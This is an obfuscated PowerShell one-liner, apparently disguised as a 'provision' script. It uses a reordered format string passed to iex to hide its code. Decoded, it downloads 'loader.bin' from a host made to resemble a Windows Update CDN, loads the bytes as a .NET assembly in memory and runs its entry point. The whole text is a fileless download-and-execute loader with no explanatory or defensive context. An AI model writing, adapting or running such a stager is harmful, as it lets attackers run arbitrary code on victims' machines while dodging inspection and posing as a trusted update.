iex ("{2}{1}{3}{0}" -f ' @()))
','bClient).DownloadData(''http://dl.winupdate-cdn.example/loader.bin'')
$a = [System.Reflection.Assembly]:','# provision 8634 v4
$b = (New-Object Net.We',':Load($b)
$a.EntryPoint.Invoke($null, (, [string[]]')